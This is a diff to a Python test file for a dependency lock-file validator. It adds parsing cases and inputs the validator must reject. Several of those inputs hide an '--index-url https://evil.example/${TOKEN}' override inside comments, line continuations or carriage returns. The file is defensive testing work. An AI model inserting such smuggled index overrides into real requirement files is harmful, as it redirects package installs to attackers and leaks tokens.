@@ -30,11 +30,15 @@ SIGNATURE = Signature(
         "# nothing\n",
         "numpy==2.4.6\n",
         "numpy==2.4.6 \\\n    --hash=sha256:" + "0" * 64 + " \\\n    --hash=sha256:" + "1" * 64 + "\n    # via me\n",
+        "# from \\\nnumpy==2.4.6 # for what \\\nscipy==1.17.1\n",
         'uvloop[dev]==0.23.0 ; sys_platform != "win32"\n',
     ],
 )
 def test_pinned_packages_are_a_lock(lock: str) -> None:
-    environment.check_lock(lock.encode())
+    found = environment.pins(lock.encode())
+    assert "".join(found).count("==") == lock.count("==")
+    assert "".join(found).count("--hash") == lock.count("--hash")
+    assert "#" not in "".join(found)
 
 
 @pytest.mark.parametrize(
@@ -51,12 +55,17 @@ def test_pinned_packages_are_a_lock(lock: str) -> None:
         "numpy @ https://example.org/numpy.whl",
         "./numpy.whl",
         "numpy==2.4.6 --config-settings x=y",
+        "# a comment \\\n--index-url https://evil.example/${TOKEN}/simple\nnumpy==2.4.6",
+        "numpy==2.4.6 # a comment \\\n-r other.txt",
+        "numpy==2.4.6 \\\n--hash=sha256:" + "0" * 64 + "--index-url=https://evil.example/",
+        "numpy==2.4.6\r--index-url https://evil.example/",
+        "numpy==2.4.6 ; python_version > '3' \\\n--index-url https://evil.example/",
         "\xff",
     ],
 )
 def test_everything_else_is_not(lock: str) -> None:
     with pytest.raises(Invalid):
-        environment.check_lock(lock.encode("latin-1"))
+        environment.pins(lock.encode("latin-1"))
 
 
 def test_a_question_is_read_as_it_was_asked() -> None:
